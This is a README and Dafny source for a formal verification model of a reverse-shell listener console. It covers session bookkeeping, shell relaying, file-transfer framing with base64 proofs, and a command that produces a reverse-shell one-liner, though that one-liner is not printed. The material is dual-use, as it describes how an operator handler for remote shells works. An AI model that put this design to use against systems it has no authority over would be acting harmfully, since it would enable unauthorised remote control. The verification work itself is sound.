=== FILE: README.md ===
# threading-portlistener, modelled in Dafny

threading-portlistener is an operator console for reverse connections. It
listens on any number of TCP ports. It keeps every accepted connection per
port and lets the operator focus one connection, then send it text or
files. It can also start a local shell whose input is typed at the console.
This project models the parts of that program that make decisions, and
proves what they promise:

- **Session bookkeeping** (`PortListener`, module `Listener`, listener.dfy):
  - which ports are listened on, and the live connections of each port;
  - the focus pair of port and connection;
  - one step of a connection's read loop, and the log files and console
    echoes it produces;
  - the rows of the session and connection tables.
- **Per-connection logic** (`Connection`, module `Connections`, connection.dfy):
  - the shell-mode state machine;
  - where `send_message` writes;
  - the input normalisation and the bounded drain loop of `handle_shell_data`;
  - the file-transfer sender.
- **The text scrubber** `clean_ansi` (module `Scrub`, scrub.dfy).
- **File-transfer framing** (module `Transfer`, transfer.dfy):
  - the control line `FILE_TRANSFER:<basename>:<length>\n`;
  - its reader, and the receiving side's save path.
  - It uses base 64 from section 4 of RFC 4648 (module `Base64`,
    base64.dfy) and UTF-8 from RFC 3629 (module `Utf8`, utf8.dfy).
- **The command line** (module `Interface`, interface.dfy):
  - the routing of a typed line;
  - the recognition of a command line by verb, token count and integer
    arguments;
  - the `exit` shutdown.
- **Host address discovery and the reverse-shell one-liner** (module
  `Network`, network.dfy).
- **Shared helpers** (module `Common`, common.dfy):
  - Python's whitespace, `strip()` and `int()`;
  - decimal rendering.

## How I/O is modelled

Everything outside the program becomes a parameter.

- **Reads.** Bytes from a socket, the pseudo-terminal or a pipe are given
  as lists of read results.
- **Writes.** Each write is appended to a byte sink field of the
  connection: `sent` for the socket, `shellInput` for a shell's stdin
  pipe, `ptyInput` for the terminal.
- **Processes.** Spawning one is an outcome: a process id, or a failure.
- **Timestamps.** They are opaque strings.
- **Asyncio tasks.** They are opaque ids.
- **Log files.** Each is a sequence of lines keyed by its path.
- **Set order.** A Python set has no defined order. Where the program
  numbers the elements of one (`switch <port> <id>`, `connections <port>`),
  the caller supplies the order as a duplicate-free enumeration of the set
  (`Listener.Enumerates`). Nothing proved depends on which enumeration is
  chosen.

Some behaviours are modelled as written:

- `detect_platform` always answers `"unix"`, so through the listener a
  shell is always the pseudo-terminal variant, and its startup banner goes
  to the socket.
- On the Windows variant the banner would go into PowerShell's own stdin;
  `Connection.StartShell` states both.
- `start_shell` does not check whether a shell is already running.
- Tearing a connection down never clears the focus, even when the focused
  connection is the one torn down.
- `switch_session` moves the port focus before it checks the connection
  id. An out-of-range id therefore leaves the old connection focused under
  the new port.
- `os.path.join("downloads", name)` lets an absolute `name` escape the
  download directory (`Transfer.AbsoluteNameEscapesDownloads`).
  `receive_file` has no caller in this program, and `send_file` sends only
  base names.

## Model

| member | source | states |
|---|---|---|
| Common.Strip | core/connection.py:49 | `strip()`: the result neither starts nor ends with whitespace, it is a contiguous slice of the input, and everything cut off on either side is whitespace |
| Common.IntToString | core/connection.py:290 | decimal rendering of an int: non-empty, with a leading `-` exactly for negatives |
| Common.DropUnderscores | cli/interface.py:55 | removes the underscores and adds nothing; a digit string yields only digits; a plain run of digits is unchanged |
| Common.PlainDigits | cli/interface.py:55 | a plain run of digits is an integer token, read at its decimal value |
| Common.DropConcat | cli/interface.py:55 | removing underscores works piece by piece, keeping the order of the pieces |
| Common.DropJoin | cli/interface.py:55 | between two digit runs the underscore is the only character removed |
| Common.ParseInt | cli/interface.py:55 | `int(token)`: succeeds exactly for an optional sign followed by ASCII digits with single underscores only between two digits (`IsIntToken`), and raises `ValueError` (`None`) for every other token; a negative result only from a leading `-` |
| Common.ParsePositive | cli/interface.py:55 | `int("+" + digits)` is the digits' decimal value |
| Common.ParseIgnoresUnderscore | cli/interface.py:55 | an underscore between two digit runs does not change the value: `int("1_000") == int("1000")` |
| Common.DigitsOfNat | cli/interface.py:55 | reading back the digits of a natural number gives the number |
| Common.ParseIntRoundTrip | cli/interface.py:55 | `int(str(i)) == i` for every integer |
| Common.IntToStringInjective | core/listener.py:43 | different integers render differently |
| Utf8.EncodeChar | core/connection.py:64 | one character is 1 to 4 bytes, a single byte exactly for ASCII |
| Utf8.Encode | core/connection.py:64 | `str.encode()`: between one and four bytes per character |
| Utf8.DecodeFirst | core/listener.py:58 | strict decoding of one character consumes 1 to 4 bytes |
| Utf8.Decode | core/listener.py:58 | `bytes.decode()`: strict UTF-8, None where Python raises `UnicodeDecodeError`; never more characters than bytes |
| Utf8.DecodeFirstOfEncoded | core/listener.py:58 | the first character of an encoding decodes back, with its length |
| Utf8.DecodeEncode | core/listener.py:58 | decoding what `send_message` encodes gives the text back |
| Utf8.DecodeFirstEncodes | core/listener.py:58 | a character decoded from the front of the bytes re-encodes to exactly the bytes it consumed |
| Utf8.EncodeDecode | core/listener.py:58 | decoding is strict: bytes that decode re-encode to exactly themselves, so two different byte strings never decode to the same text |
| Utf8.EncodeAscii | core/connection.py:291 | ASCII text encodes to one byte per character, each its code point |
| Base64.SextetByte | core/connection.py:288 | a 6-bit value maps to an alphabet byte, never to the padding byte `=` |
| Base64.SextetValue | core/connection.py:304 | a byte decodes only to the 6-bit value that encodes to it; `=` never decodes to a value |
| Base64.SextetRoundTrip | core/connection.py:288 | every 6-bit value survives encoding and decoding |
| Base64.Encode | core/connection.py:288 | `b64encode`: 4·⌈n/3⌉ bytes, all from the alphabet or `=` padding |
| Base64.DecodeGroup | core/connection.py:304 | a full quantum decodes to 3 bytes or is rejected |
| Base64.DecodeLast | core/connection.py:304 | the last quantum, with or without padding, decodes to 1 to 3 bytes or is rejected |
| Base64.Decode | core/connection.py:304 | strict decoding yields at most 3 bytes per 4 input bytes |
| Base64.GroupRoundTrip | core/connection.py:288 | three bytes survive encoding and decoding |
| Base64.DecodeEncode | core/connection.py:288-304 | decoding the payload `send_file` writes gives the file back |
| Scrub.Delete | core/connection.py:28-44 | a substitution by the empty string leaves a subsequence of its input, holding only characters of it |
| Scrub.MaskFor | core/connection.py:28-44 | for any deletion result there is a mask of the input's length |
| Scrub.SubsequenceIsDeletion | core/connection.py:28-44 | every deletion that a regular expression can perform is described by some mask |
| Scrub.FilterControl | core/connection.py:36 | keeps only newline, carriage return and code points 32..126, each of them as often as in the input, in order |
| Scrub.RemoveK | core/connection.py:40 | removing `[K` deletes characters only, and changes the text exactly when it holds `[K` |
| Scrub.CollapseBlankLines | core/connection.py:47 | definition of the substitution; its properties are stated by `CollapseShape`, `CollapseKeepsText`, `CollapseCopies` and `CollapseIdempotent` |
| Scrub.CollapseShape | core/connection.py:47 | after the collapse no three newlines are adjacent, the text starts with a newline only if the input does, and only newlines are added |
| Scrub.CollapseKeepsText | core/connection.py:47 | the collapse keeps every non-whitespace character, in order, and adds none |
| Scrub.CollapseCopies | core/connection.py:47 | text without a newline passes through the collapse unchanged |
| Scrub.CollapseIdempotent | core/connection.py:47 | a second collapse changes nothing |
| Scrub.Prepare | core/connection.py:27-44 | after the filter on line 36, the later deletions keep the text within the allowed characters |
| Scrub.CleanAnsi | core/connection.py:25-49 | `clean_ansi`: only allowed characters, no leading or trailing whitespace, never three newlines in a row, whatever the abstracted expressions match |
| Scrub.CollapseKeeps | core/connection.py:47 | the collapse keeps text made only of allowed characters so |
| Scrub.StripKeeps | core/connection.py:49 | the final `strip()` keeps both properties |
| Transfer.Basename | core/connection.py:290 | `basename`: a suffix of the path without `/`, cut just after the last `/` |
| Transfer.Join | core/connection.py:306 | `os.path.join`: an absolute name replaces the directory; otherwise the result ends with the name |
| Transfer.Header | core/connection.py:290 | definition of the control line `FILE_TRANSFER:<name>:<length>` and a newline; `HeaderRoundTrip` reads it back |
| Transfer.Frame | core/connection.py:286-295 | definition of the bytes `send_file` writes, the encoded control line then the payload; `SendReceiveRoundTrip` and `Connections.FrameAnnouncesPayload` state their properties |
| Transfer.LastIndexAfterDigits | core/connection.py:290 | the size field is after the last `:` of the control line, whatever the name holds |
| Transfer.HeaderRoundTrip | core/connection.py:290 | the control line is read back to the exact name and size |
| Transfer.ReceiveFile | core/connection.py:301-312 | `receive_file`: the save path is `downloads` joined with the name; the message is `File saved to <path>`; it fails exactly when the bytes read do not decode |
| Transfer.JoinRelative | core/connection.py:306 | a name without `/` is saved as `downloads/<name>` |
| Transfer.ReceiveEncoded | core/connection.py:301-312 | reading the announced length of a payload saves the original bytes, whatever follows on the stream |
| Transfer.SendReceiveRoundTrip | core/connection.py:281-312 | what `send_file` writes, read back by `receive_file`, saves the same bytes under `downloads/<basename>` |
| Transfer.AbsoluteNameEscapesDownloads | core/connection.py:306 | every name starting with `/` is saved at that name itself, outside `downloads/` |
| Connections.Collected | core/connection.py:256 | the collected output is at most 4096 bytes per read |
| Connections.DrainPty | core/connection.py:249-265 | the pty drain loop makes 1 to 5 reads; every read but the last is a full 4096 bytes; it stops early only at an empty or short read or an error; it fails exactly on an errno other than 5; the output is the data read, in order, at most 5·4096 bytes |
| Connections.DrainIsDeterministic | core/connection.py:249-265 | the drain's output, read count and failure are determined by the reads |
| Connections.FailsFromFullReads | core/connection.py:252-265 | full reads do not decide whether the loop fails |
| Connections.DrainFailsMatches | core/connection.py:249-265 | the loop fails exactly when `DrainFails` says so, whichever reads it made |
| Connections.FirstStop | core/connection.py:211-214 | the first empty or failing read of the pipe loop: every read before it has data |
| Connections.DrainPipe | core/connection.py:210-215 | the Windows read loop fails exactly when the first empty-or-failing read fails, and otherwise returns all data before it |
| Connections.TrimBytes | core/connection.py:195 | the command is the contiguous slice of the bytes left after cutting all whitespace at both ends: it neither starts nor ends with whitespace, everything cut is whitespace, and a command of whitespace only becomes empty |
| Connections.WithNewline | core/connection.py:242-243 | the data is kept as a prefix and ends with a newline; one is added only if missing |
| Connections.MessageBytes | core/connection.py:62-64 | definition: text is UTF-8 encoded, bytes are written as they are |
| Connections.Banner | core/connection.py:127-129 | definition of the startup line, naming PowerShell on `windows` and /bin/bash otherwise; `Connection.StartShell` sends it |
| Connections.SendFileMessage | core/connection.py:283-299 | definition of the message returned beside each outcome: `File sent successfully`, `File not found`, or `str(e)` of the exception a write raised |
| Connections.FrameAnnouncesPayload | core/connection.py:286-295 | corollary of `Base64.Encode` and `Base64.DecodeEncode`: the control line announces exactly the length of the payload after it; the payload is 4·⌈n/3⌉ bytes and decodes back to the file |
| Connections.Connection.constructor | core/connection.py:14-23 | a new connection is active, in message mode, without a process, with an empty buffer |
| Connections.Connection.DetectPlatform | core/connection.py:51-59 | always succeeds and sets the platform to `unix` |
| Connections.Connection.SendMessage | core/connection.py:61-84 | writes to the shell's stdin exactly in shell mode with a process that has a stdin pipe, otherwise to the socket, never both; text is encoded first; a failed write returns false |
| Connections.Connection.StartShell | core/connection.py:86-136 | ends either running with the new process, or stopped without one; shell mode matches the process; the banner goes through `send_message` |
| Connections.Connection.StopShell | core/connection.py:161-183 | without a process nothing changes; with one, shell mode ends and the process is dropped |
| Connections.Connection.HandleShellData | core/connection.py:185-279 | without a process it returns false; the pty branch writes the data with a newline added only if missing, then drains; a failed write or raised read returns false; the Windows branch trims and writes the command, then reads until an empty read |
| Connections.Connection.SendFile | core/connection.py:281-299 | a missing file writes nothing and reports `File not found`; otherwise the control line and payload go to the socket in shell mode too; a failed write returns the exception's text |
| Listener.Without | core/listener.py:100 | deleting a key keeps exactly the other keys, still without duplicates; a key not held leaves the order unchanged |
| Listener.WithoutAt | core/listener.py:100 | in an order without duplicates, deleting a key cuts out exactly its position and keeps the others in order |
| Listener.Echoes | core/listener.py:155-156 | replaying a buffer shows each message once, in order, under the connection's address |
| Listener.LogPath | core/listener.py:43 | definition: `logs/port_<port>_<ip>_<peer port>.log`; `LogPathInjective` states that it tells connections apart |
| Listener.LogName | core/listener.py:43 | definition of the variable middle `<port>_<ip>_<peer port>`; `SplitAtFirst` reads its port back |
| Listener.LogLine | core/listener.py:66 | definition of one log entry, `[<timestamp>] <message>` and a newline; `PortListener.ReadStep` appends it to the log |
| Listener.SplitAtFirst | core/listener.py:43 | text split at a first separator it does not hold before it splits one way only: the listening port of a log name is read back |
| Listener.LogPathInjective | core/listener.py:43 | two connections share a log file only if they have the same listening port and peer address |
| Listener.PortListener.constructor | core/listener.py:14-22 | nothing listened on, nothing focused, running |
| Listener.PortListener.AddPort | core/listener.py:86-92 | a port already listened on changes nothing; otherwise exactly that port is added, at the end of the order, with no range check |
| Listener.PortListener.RemovePort | core/listener.py:94-104 | an absent port changes nothing, including the `active` flags of connections still on it; otherwise its task is cancelled, the port leaves `sessions`, every connection on it is marked inactive, and `connections` is unchanged |
| Listener.PortListener.Register | core/listener.py:36-40 | a fresh connection joins its port's set, which is created if missing; other ports are untouched |
| Listener.PortListener.ReadStep | core/listener.py:46-71 | an empty or failed read ends the loop with nothing changed; in shell mode the chunk goes to the shell and a failure stops the shell without ending the loop; otherwise a decodable chunk is appended to the buffer, echoed only if focused, and logged as one `[ts] message` line; an undecodable chunk changes nothing |
| Listener.PortListener.Teardown | core/listener.py:75-81 | the shell is stopped if on; the connection leaves its port; the port's key goes exactly when its set becomes empty; other ports are untouched |
| Listener.PortListener.SwitchSession | core/listener.py:140-161 | an unknown or empty port leaves the focus; otherwise the port is focused first; an in-range id focuses that position and replays its buffer in order; an out-of-range id keeps the old connection; with no id the first is focused |
| Listener.PortListener.SendMessageToCurrent | core/listener.py:163-178 | no focus sends nothing; in shell mode the line goes to the shell, otherwise to the socket |
| Listener.PortListener.StartShellForCurrent | core/listener.py:180-193 | no focus returns false; otherwise the platform becomes `unix`, the shell runs exactly when spawning succeeded, and its banner goes to the socket |
| Listener.PortListener.StopShellForCurrent | core/listener.py:195-201 | the focused connection's shell, if any, is stopped |
| Listener.PortListener.SendFileToCurrent | core/listener.py:213-222 | no focus sends nothing; otherwise the outcome and writes of `send_file` |
| Listener.PortListener.ListSessions | core/listener.py:106-120 | one row per listened port, in insertion order: active unless the task is done, the port's connection count (0 if none), and the focus mark exactly on the focused port |
| Listener.PortListener.ListConnections | core/listener.py:122-138 | none for a port without connections; otherwise one row per connection, numbered from 0 in enumeration order, with the focus mark exactly on the focused connection |
| Interface.WordLength | cli/interface.py:48 | a token runs up to the next whitespace |
| Interface.Split | cli/interface.py:48 | `split()`: every token is non-empty and holds no whitespace |
| Interface.SplitSkipsSpace | cli/interface.py:48 | leading whitespace yields no token |
| Interface.SplitSpaces | cli/interface.py:48-51 | a line of whitespace has no tokens |
| Interface.WordLengthOfWord | cli/interface.py:48 | a token followed by whitespace is read whole |
| Interface.SplitWord | cli/interface.py:48 | a leading token is split off exactly |
| Interface.SplitJoin | cli/interface.py:86 | splitting tokens joined by single spaces gives the tokens back |
| Interface.ParseCommand | cli/interface.py:47-116 | nothing exactly for a line without tokens; "Invalid command!" exactly for an unknown verb or a wrong token count; "Invalid port number!" exactly when `int()` rejects the port of `add`, `remove`, `connections` or `revshell`; "Invalid port number or connection ID!" exactly when it rejects an argument of `switch`; `add`, `remove`, `connections` and `upload` only with 2 tokens, `switch` with 2 or 3, `send` with at least 2, `revshell` with 3 |
| Interface.Recognize | cli/interface.py:50-116 | each command comes only from its verb and token count, with its arguments read from the tokens: ports and ids by `int()`, the `revshell` target and `upload` path verbatim, the `send` message as the later tokens joined by spaces; `list`, `shell`, `stopshell`, `help` and `exit` exactly for their verb, whatever follows |
| Interface.RecognizeInvalid | cli/interface.py:53-116 | "Invalid command!" exactly for an unknown verb or a wrong token count |
| Interface.RecognizeBadPort | cli/interface.py:53-104 | "Invalid port number!" exactly when `int()` rejects the last token of `add`, `remove`, `connections` or `revshell` |
| Interface.RecognizeBadSwitch | cli/interface.py:77-83 | "Invalid port number or connection ID!" exactly when `int()` rejects an argument of `switch` |
| Interface.BlankLineDoesNothing | cli/interface.py:48-51 | an empty or whitespace-only line does nothing |
| Interface.SpacingIsIgnored | cli/interface.py:48 | collapsing a line's whitespace does not change the command |
| Interface.SendKeepsWords | cli/interface.py:85-87 | the sent message is the words after `send`, joined by single spaces |
| Interface.RecognizePort | cli/interface.py:53-75 | `add`, `remove` and `connections` with a number select that call with that port |
| Interface.RecognizeSwitch | cli/interface.py:77-83 | `switch` reads the port, and the connection id when there are 3 tokens |
| Interface.RecognizeRevShell | cli/interface.py:98-104 | `revshell` reads the target verbatim and the port as a number |
| Interface.RecognizeSend | cli/interface.py:85-87 | `send` with words sends them joined by spaces |
| Interface.RecognizeRendered | cli/interface.py:53-113 | each command is recognised from its tokens |
| Interface.ParseRender | cli/interface.py:47-116 | every command that reaches the listener is read back exactly from its canonical line |
| Interface.Route | cli/interface.py:138-145 | a line is sent as a message exactly when a connection is focused and it does not start with `/`, and then verbatim |
| Interface.RenderStart | cli/interface.py:138-145 | a command line starts with a letter, not a `/` |
| Interface.RouteSlash | cli/interface.py:141-143 | a line starting with `/` is parsed without it, whether or not a connection is focused |
| Interface.RouteUnfocused | cli/interface.py:141-145 | with no focused connection, a line not starting with `/` is parsed whole |
| Interface.SlashReachesParser | cli/interface.py:138-145 | a `/`-prefixed command reaches the parser whatever the focus; without a focus the `/` is optional |
| Interface.Shutdown | cli/interface.py:109-113 | `exit` removes every listened port, cancelling every task, marks every connection on those ports inactive, touches no connection on a port that is no longer listened, leaves `sessions` empty and stops the loop |
| Interface.WithoutFirst | cli/interface.py:111-112 | removing the ports in insertion order removes the head of the order each time |
| Interface.WithoutAbsent | cli/interface.py:111-112 | removing an absent port leaves the order unchanged |
| Network.Dedupe | utils/network.py:29 | `list(set(...))`: no duplicates, the same elements |
| Network.GetIpAddresses | utils/network.py:6-29 | no duplicates; a failed lookup gives nothing; an empty lookup gives the fallback address if it was found; otherwise exactly the IPv4 addresses of the entries that do not start with `127.` |
| Network.NoQuoteInPortField | utils/network.py:32 | the text after the target's closing quote, a comma and the port, holds no double quote |
| Network.ReverseShellCommand | utils/network.py:31-32 | definition: the fixed one-liner with the target and port written in verbatim; `ReverseShellInjective` and `NoQuoteInPortField` state its properties |
| Network.ReverseShellInjective | utils/network.py:31-32 | different targets or ports give different commands, whatever the target holds |

## Left out

- Asyncio servers and tasks are not modelled: `listen_port` (core/listener.py:24-33), the accept callback, cancellation, `asyncio.sleep` and `drain`. Tasks are opaque ids, and which tasks are done is a parameter of `ListSessions`.
- The lock is not modelled (core/listener.py:19, 37, 76, 87, 95, 113). The model is sequential.
- Console output, Rich tables and panels, `create_help_message`, `PromptSession` and main.py are not modelled as text. The messages a connection echoes are kept as `shown`, and printing is taken to succeed. Rich reads `[...]` in printed text as markup: a closing tag that matches no open tag, such as `[/]`, raises `MarkupError`, and each handler's error message repeats that text inside `[red]...[/red]`, so it raises again. The three lines below, and the `start_reverse_shell` line further down, name what the model then gets wrong.
- Listener.PortListener.ReadStep: for a focused connection, a message holding such a tag is buffered, but the echo on core/listener.py:62 raises before the log write on lines 64-66, and the loop ends. The model logs the message and goes on.
- Connections.Connection.HandleShellData: a command holding such a tag raises at the echo on core/connection.py:200 or 238, before the command is written to the shell. The model writes it and reads the output.
- Listener.PortListener.SwitchSession: replaying a buffered message holding such a tag (core/listener.py:156) raises out of `switch_session`. `handle_command` catches only `ValueError`, so `run_cli` ends. The model replays every message.
- The `while conn.active` loop of `handle_connection` is modelled one pass at a time (`ReadStep` returns whether it goes on). The `while port_listener.running` loop of `run_cli` is modelled one line at a time (`Route`). The call that each recognised `Command` makes is the listener method of the same name.
- `start_reverse_shell` (core/listener.py:203-211) prints `ReverseShellCommand` and returns true, unless the target holds such a tag: then the print on line 207 raises, the handler on line 210 raises again, the `revshell` branch catches only `ValueError` (cli/interface.py:99-104) and `run_cli` catches only `KeyboardInterrupt` and `EOFError` (cli/interface.py:147-150), so the command line ends. The model does not represent that exit.
- `_read_shell_output` (core/connection.py:138-159) has no caller and is not modelled.
- Scrub.CleanAnsi: the regular expressions on core/connection.py:28, 32, 39 and 41-44 are not given exact semantics. Each is a deletion chosen by a mask, so nothing is claimed about what they match, and idempotence is not claimed.
- HandleShellData: it returns the raw bytes the loops read. Decoding them with replacement characters, scrubbing them and printing them is not modelled. The Windows branch trims ASCII whitespace on the raw bytes, not Unicode whitespace after decoding. Its stderr read (core/connection.py:224-228) is not modelled.
- Connections.Connection.SendMessage, HandleShellData, SendFile: one flag decides whether the write succeeds, and a failed write writes nothing. For SendFile the exception's text is a parameter, returned in `SendError`, and a control line written before a failing payload write is not modelled.
- Process control is not modelled: `pty.openpty`, `create_subprocess_exec`, `setsid`, `killpg`, `terminate`, `kill`, and closing the descriptors. Spawning is a given process id or a failure, and termination errors are ignored as the source ignores them.
- ReadStep: its contract states the shell branch for the pseudo-terminal variant only. Through the listener a shell is only ever started after `detect_platform` sets `unix`.
- Transfer.ReceiveFile: `reader.read(size)` is modelled as returning the first `size` bytes available, or all of them. Read errors, `makedirs` and file-write failures (which return the exception text) are not modelled. Neither is Python's lenient base 64 decoding, which drops bytes outside the alphabet: decoding is strict, and only the round trip is claimed.
- Common.ParseInt: `int()` also accepts non-ASCII decimal digits and surrounding whitespace; the tokens of a split line hold no whitespace. It raises `ValueError` for more than 4300 digits, which the model reads like any other number.
- Network.GetIpAddresses: `list(set(...))` has no defined order, and the model returns first-occurrence order. Every property stated holds for any order. The resolver call, `gethostname` and the UDP-socket fallback are given as inputs.
- Timestamps and connection durations need the clock. The log timestamp is a parameter, and the connection table shows the connection time instead of the elapsed time.

=== FILE: base64.dfy ===
/** Base 64 with the standard alphabet and `=` padding (RFC 4648 section 4),
    over bytes, as `base64.b64encode` produces it and as a strict decoder
    reads it back. */
module Base64 {
  import opened Common

  /** The padding byte `=`. */
  const Pad: Byte := 61

  /** The alphabet byte that stands for a 6-bit value: `A`-`Z`, `a`-`z`,
      `0`-`9`, `+`, `/`. */
  function SextetByte(v: int): (b: Byte)
    requires 0 <= v < 64
    ensures b != Pad
  {
    if v < 26 then 65 + v
    else if v < 52 then 97 + (v - 26)
    else if v < 62 then 48 + (v - 52)
    else if v == 62 then 43
    else 47
  }

  /** The 6-bit value an alphabet byte stands for; None for every byte
      outside the alphabet, padding included. */
  function SextetValue(b: Byte): (r: Option<int>)
    ensures r.Some? ==> 0 <= r.value < 64 && SextetByte(r.value) == b
    ensures b == Pad ==> r.None?
  {
    var n: int := b;
    if 65 <= n <= 90 then Some(n - 65)
    else if 97 <= n <= 122 then Some(n - 97 + 26)
    else if 48 <= n <= 57 then Some(n - 48 + 52)
    else if n == 43 then Some(62)
    else if n == 47 then Some(63)
    else None
  }

  lemma SextetRoundTrip(v: int)
    requires 0 <= v < 64
    ensures SextetValue(SextetByte(v)) == Some(v)
  {
  }

  predicate InAlphabet(b: Byte) {
    SextetValue(b).Some? || b == Pad
  }

  /** Three bytes as four alphabet bytes. */
  function EncodeGroup(b0: Byte, b1: Byte, b2: Byte): seq<Byte> {
    [SextetByte(b0 / 4), SextetByte((b0 % 4) * 16 + b1 / 16),
     SextetByte((b1 % 16) * 4 + b2 / 64), SextetByte(b2 % 64)]
  }

  /** `base64.b64encode(data)`. */
  function Encode(data: seq<Byte>): (r: seq<Byte>)
    ensures |r| == 4 * ((|data| + 2) / 3)
    ensures forall i :: 0 <= i < |r| ==> InAlphabet(r[i])
  {
    if |data| == 0 then []
    else if |data| == 1 then
      [SextetByte(data[0] / 4), SextetByte((data[0] % 4) * 16), Pad, Pad]
    else if |data| == 2 then
      [SextetByte(data[0] / 4), SextetByte((data[0] % 4) * 16 + data[1] / 16),
       SextetByte((data[1] % 16) * 4), Pad]
    else
      EncodeGroup(data[0], data[1], data[2]) + Encode(data[3..])
  }

  /** Four alphabet bytes as three bytes; None if any is outside the alphabet. */
  function DecodeGroup(q: seq<Byte>): (r: Option<seq<Byte>>)
    requires |q| == 4
    ensures r.Some? ==> |r.value| == 3
  {
    match (SextetValue(q[0]), SextetValue(q[1]), SextetValue(q[2]), SextetValue(q[3]))
    case (Some(c0), Some(c1), Some(c2), Some(c3)) =>
      Some([c0 * 4 + c1 / 16, (c1 % 16) * 16 + c2 / 4, (c2 % 4) * 64 + c3])
    case _ => None
  }

  /** The last quantum, which may end in one or two padding bytes. */
  function DecodeLast(q: seq<Byte>): (r: Option<seq<Byte>>)
    requires |q| == 4
    ensures r.Some? ==> 1 <= |r.value| <= 3
  {
    match (SextetValue(q[0]), SextetValue(q[1]), SextetValue(q[2]))
    case (Some(c0), Some(c1), None) =>
      if q[2] == Pad && q[3] == Pad then Some([c0 * 4 + c1 / 16]) else None
    case (Some(c0), Some(c1), Some(c2)) =>
      if q[3] == Pad then Some([c0 * 4 + c1 / 16, (c1 % 16) * 16 + c2 / 4])
      else DecodeGroup(q)
    case _ => None
  }

  /** Strict decoding: whole quanta of alphabet bytes, padding only at the
      very end; None for anything else. */
  function Decode(e: seq<Byte>): (r: Option<seq<Byte>>)
    ensures r.Some? ==> |r.value| <= 3 * (|e| / 4)
    decreases |e|
  {
    if e == [] then Some([])
    else if |e| < 4 then None
    else if |e| == 4 then DecodeLast(e)
    else
      match DecodeGroup(e[..4])
      case None => None
      case Some(g) =>
        match Decode(e[4..])
        case None => None
        case Some(rest) => Some(g + rest)
  }

  /** The first two sextets give back the first byte and the top of the second. */
  lemma HighBits(b0: Byte, b1: Byte)
    ensures var c1 := (b0 % 4) * 16 + b1 / 16;
            (b0 / 4) * 4 + c1 / 16 == b0 && c1 % 16 == b1 / 16
  {
    var x, y := b0 % 4, b1 / 16;
    assert 0 <= y < 16;
    assert (x * 16 + y) / 16 == x && (x * 16 + y) % 16 == y;
  }

  /** The middle sextets give back the second byte and the top of the third. */
  lemma MiddleBits(b1: Byte, b2: Byte)
    ensures var c2 := (b1 % 16) * 4 + b2 / 64;
            (b1 / 16) * 16 + c2 / 4 == b1 && c2 % 4 == b2 / 64
  {
    var x, y := b1 % 16, b2 / 64;
    assert 0 <= y < 4;
    assert (x * 4 + y) / 4 == x && (x * 4 + y) % 4 == y;
  }

  lemma GroupRoundTrip(b0: Byte, b1: Byte, b2: Byte)
    ensures DecodeGroup(EncodeGroup(b0, b1, b2)) == Some([b0, b1, b2])
    ensures DecodeLast(EncodeGroup(b0, b1, b2)) == Some([b0, b1, b2])
  {
    var c0, c1, c2, c3 := b0 / 4, (b0 % 4) * 16 + b1 / 16, (b1 % 16) * 4 + b2 / 64, b2 % 64;
    SextetRoundTrip(c0);
    SextetRoundTrip(c1);
    SextetRoundTrip(c2);
    SextetRoundTrip(c3);
    HighBits(b0, b1);
    MiddleBits(b1, b2);
    assert (c2 % 4) * 64 + c3 == b2;
    var q := EncodeGroup(b0, b1, b2);
    assert q == [SextetByte(c0), SextetByte(c1), SextetByte(c2), SextetByte(c3)];
    assert DecodeGroup(q) == Some([c0 * 4 + c1 / 16, (c1 % 16) * 16 + c2 / 4, (c2 % 4) * 64 + c3]);
  }

  lemma OneByteRoundTrip(b0: Byte)
    ensures Decode(Encode([b0])) == Some([b0])
  {
    var c0, c1 := b0 / 4, (b0 % 4) * 16;
    SextetRoundTrip(c0);
    SextetRoundTrip(c1);
    HighBits(b0, 0);
    var q := Encode([b0]);
    assert q == [SextetByte(c0), SextetByte(c1), Pad, Pad];
    assert DecodeLast(q) == Some([c0 * 4 + c1 / 16]);
  }

  lemma TwoByteRoundTrip(b0: Byte, b1: Byte)
    ensures Decode(Encode([b0, b1])) == Some([b0, b1])
  {
    var c0, c1, c2 := b0 / 4, (b0 % 4) * 16 + b1 / 16, (b1 % 16) * 4;
    SextetRoundTrip(c0);
    SextetRoundTrip(c1);
    SextetRoundTrip(c2);
    HighBits(b0, b1);
    MiddleBits(b1, 0);
    var q := Encode([b0, b1]);
    assert q == [SextetByte(c0), SextetByte(c1), SextetByte(c2), Pad];
    assert DecodeLast(q) == Some([c0 * 4 + c1 / 16, (c1 % 16) * 16 + c2 / 4]);
  }

  /** A full quantum followed by more input decodes quantum by quantum. */
  lemma DecodeCons(q: seq<Byte>, rest: seq<Byte>, x: seq<Byte>, y: seq<Byte>)
    requires |q| == 4 && rest != []
    requires DecodeGroup(q) == Some(x) && Decode(rest) == Some(y)
    ensures Decode(q + rest) == Some(x + y)
  {
    var e := q + rest;
    assert e[..4] == q;
    assert e[4..] == rest;
  }

  lemma ThreeByteRoundTrip(data: seq<Byte>)
    requires |data| == 3
    ensures Decode(Encode(data)) == Some(data)
  {
    var g := EncodeGroup(data[0], data[1], data[2]);
    GroupRoundTrip(data[0], data[1], data[2]);
    assert Encode(data[3..]) == [];
    assert Encode(data) == g;
    assert Decode(g) == DecodeLast(g);
    assert data == [data[0], data[1], data[2]];
  }

  /** Decoding the encoding gives back the original bytes. */
  lemma {:induction false} DecodeEncode(data: seq<Byte>)
    ensures Decode(Encode(data)) == Some(data)
  {
    if |data| == 1 {
      assert data == [data[0]];
      OneByteRoundTrip(data[0]);
    } else if |data| == 2 {
      assert data == [data[0], data[1]];
      TwoByteRoundTrip(data[0], data[1]);
    } else if |data| == 3 {
      ThreeByteRoundTrip(data);
    } else if |data| > 3 {
      var g := EncodeGroup(data[0], data[1], data[2]);
      var tail := Encode(data[3..]);
      GroupRoundTrip(data[0], data[1], data[2]);
      DecodeEncode(data[3..]);
      DecodeCons(g, tail, [data[0], data[1], data[2]], data[3..]);
      assert Encode(data) == g + tail;
      assert data == [data[0], data[1], data[2]] + data[3..];
    }
  }
}

=== FILE: common.dfy ===
/** Vocabulary shared by the whole model: optional values, bytes, Python's
    notion of whitespace with `str.strip()`, and the decimal rendering and
    parsing of integers that `str(int)` and `int(str)` perform. */
module Common {

  datatype Option<T> = None | Some(value: T)

  /** A byte as a Python `bytes` object holds it. */
  type Byte = b: int | 0 <= b < 256

  /** A peer address as `writer.get_extra_info('peername')` reports it. */
  datatype Address = Address(host: string, port: int)

  predicate NoDuplicates<T(==)>(s: seq<T>) {
    forall i, j :: 0 <= i < j < |s| ==> s[i] != s[j]
  }

  predicate StartsWith<T(==)>(s: seq<T>, prefix: seq<T>) {
    |prefix| <= |s| && s[..|prefix|] == prefix
  }
